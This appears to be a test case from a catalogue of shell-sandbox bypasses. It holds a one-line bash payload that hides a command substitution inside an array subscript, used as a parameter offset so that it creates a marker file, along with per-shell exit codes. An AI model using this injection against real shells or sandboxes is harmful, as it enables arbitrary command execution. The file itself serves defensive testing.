#@ id: ar-shift-count
#@ about: creates PWNED (stands for running any program)
#@ class: arithmetic
#@ kind: bypass
#@ origin: https://github.com/vercel-labs/just-bash/pull/418
#@ world: catalogue
#@ effect: [bash] create PWNED
#@ exit: [bash] 0
#@ exit: [zsh] 1
#@ exit: [sh] 2
#@ body: no-final-newline
#@ ---
set -- 1; i='a[$(touch PWNED)]'; echo ${@:i}
